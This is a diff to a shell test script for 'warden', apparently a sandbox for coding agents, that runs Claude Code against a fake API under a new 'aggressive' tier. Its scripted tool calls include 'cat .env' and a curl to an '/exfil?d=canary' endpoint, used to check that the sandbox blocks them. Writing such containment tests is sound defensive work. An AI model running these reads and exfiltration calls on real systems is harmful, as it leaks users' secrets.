@@ -16,6 +16,8 @@
 # npm could not reach the registry), 2 bad usage.
 #
 # Environment: AGENTS_CACHE (default build/agents), CLAUDE_VERSION (2.1.197),
+# AGENTS_TIER (passive, the default, or aggressive: the network checks hold
+# in both; aggressive leaves `cat .env` out of the script, which it allows),
 # KEEP=1 keeps the work directory, AGENTS_NETNS=0 skips the network
 # namespace, AGENTS_TIMEOUT (seconds for the session, default 300).
 
@@ -26,6 +28,7 @@ ROOT=$(cd "$HERE/../.." && pwd)
 CLAUDE_VERSION=${CLAUDE_VERSION:-2.1.197}
 CACHE=${AGENTS_CACHE:-$ROOT/build/agents}
 TIMEOUT=${AGENTS_TIMEOUT:-300}
+TIER=${AGENTS_TIER:-passive}
 
 # A checkout under /tmp (as CI may clone it): the CLI installed in it is
 # the host's, which the session's private /tmp would not show; share it.
@@ -140,8 +143,17 @@ SECRET="wdn-secret-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')"
 		git -c user.name=t -c user.email=t@t commit -q -m init
 ) || die "could not make the project"
 
+# The fake API's last step is a tool call's curl to the fake API itself:
+# under passive its exec is refused already, under aggressive the tier
+# allows the exec and the connect is refused.
+SCRIPT_ARGS=()
+if [ "$TIER" = aggressive ]; then
+	printf '["ls", "cat README.md", "cat .env", "curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary"]\n' |
+		sed 's/"cat .env", //' >"$WORK/script.json"
+	SCRIPT_ARGS=(--script "$WORK/script.json")
+fi
 python3 "$HERE/fake_anthropic.py" --port-file "$WORK/port" --log "$WORK/requests.jsonl" \
-	2>"$WORK/server.err" &
+	"${SCRIPT_ARGS[@]}" 2>"$WORK/server.err" &
 SRV_PID=$!
 for _ in $(seq 100); do
 	[ -s "$WORK/port" ] && break
@@ -156,7 +168,7 @@ PORT=$(cat "$WORK/port")
 # --dangerously-skip-permissions. TMPDIR stays unset: the CLI's tool
 # wrapper then writes its cwd file to /tmp/claude-HEX-cwd, the shape warden
 # recognises.
-CMD=("$WARDEN" run "${SHARE[@]}" --agent claude-code --tier passive --project "$PROJ" --audit "$AUDIT"
+CMD=("$WARDEN" run "${SHARE[@]}" --agent claude-code --tier "$TIER" --project "$PROJ" --audit "$AUDIT"
 	-- "$CLAUDE" -p "list the files and read the README" --dangerously-skip-permissions
 	--output-format text)
 ENV=(HOME="$FAKE_HOME" USER="$(id -un)" PATH="$PATH" LANG=C.UTF-8 TERM=dumb
@@ -196,7 +208,7 @@ echo
 
 python3 "$HERE/check_claude.py" --audit-json "$WORK/audit.json" --requests "$WORK/requests.jsonl" \
 	--stdout "$WORK/claude.out" --stderr "$WORK/claude.err" --rc "$RC" --secret "$SECRET" \
-	--home "$FAKE_HOME"
+	--home "$FAKE_HOME" --port "$PORT" --tier "$TIER"
 RESULT=$?
 echo
 say "times: npm install/check ${AGENTS_INSTALL_S:-?}s, session under warden ${SESSION_S}s;" \
